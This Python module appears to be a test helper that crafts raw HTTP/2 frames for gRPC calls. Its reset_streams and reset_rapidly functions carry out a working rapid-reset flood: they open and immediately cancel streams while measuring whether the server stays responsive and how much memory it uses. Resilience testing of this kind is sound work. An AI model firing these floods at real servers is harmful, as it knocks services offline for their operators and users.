"""HTTP/2 connections by hand, for clients that do what no library lets them do."""

import socket
import struct
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
ACK = END_STREAM = 1
END_HEADERS = 4
CANCEL, ENHANCE_YOUR_CALM = 8, 0xB


def frame(kind, payload=b"", flags=0, stream=0):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _text(text):
    data = text.encode()
    assert len(data) < 127
    return bytes([len(data)]) + data


def request_headers(path, authority="localhost"):
    """The HPACK block of a gRPC call of `path`, such as "/package.Service/Method"; no table is used."""
    return (b"\x83\x86"  # :method POST, :scheme http
            + b"\x04" + _text(path) + b"\x01" + _text(authority)
            + b"\x0f\x10" + _text("application/grpc") + b"\x00" + _text("te") + _text("trailers"))


def reset_streams(path, count, first=1):
    """The frames that open `count` calls and cancel each at once; `first` is odd."""
    block = request_headers(path)
    head = struct.pack(">I", len(block))[1:] + bytes([HEADERS, END_HEADERS])
    tail = struct.pack(">I", CANCEL)
    reset = struct.pack(">I", len(tail))[1:] + bytes([RST_STREAM, 0])
    parts = []
    for stream in range(first, first + 2 * count, 2):
        number = struct.pack(">I", stream)
        parts += (head, number, block, reset, number, tail)
    return b"".join(parts)


class Frames:
    """An HTTP/2 connection by hand, from one of this machine's addresses."""

    def __init__(self, address, source=""):
        host, port = address.split(":")
        self.socket = socket.create_connection((host, int(port)), 30, (source, 0) if source else None)
        self.socket.sendall(PREFACE + frame(SETTINGS))

    def close(self):
        self.socket.close()

    def _exactly(self, size):
        data = b""
        while len(data) < size:
            part = self.socket.recv(size - len(data))
            if not part:
                raise ConnectionResetError
            data += part
        return data

    def next(self, timeout):
        """(kind, payload), or None if nothing comes."""
        self.socket.settimeout(timeout)
        try:
            head = self._exactly(9)
        except TimeoutError:
            return None
        return head[3], self._exactly(int.from_bytes(head[:3], "big"))


def reset_rapidly(address, path, count, ask, resident):
    """Cancels `count` calls as fast as they can be sent, and calls `ask` meanwhile, 200 times or more:
    (the most that `resident` said, how often `ask` returned)."""
    connection = Frames(address)
    frames = reset_streams(path, count)

    def read():
        try:
            while connection.socket.recv(1 << 16):
                pass
        except OSError:
            pass

    def send():
        try:
            connection.socket.sendall(frames)
        except OSError:
            pass

    reader, sender = threading.Thread(target=read), threading.Thread(target=send)
    connection.socket.settimeout(None)
    reader.start()
    sender.start()
    most, answered = resident(), 0
    while sender.is_alive() or answered < 200:
        ask()
        answered += 1
        most = max(most, resident())
    connection.socket.shutdown(socket.SHUT_RDWR)
    reader.join()
    connection.close()
    return max(most, resident()), answered
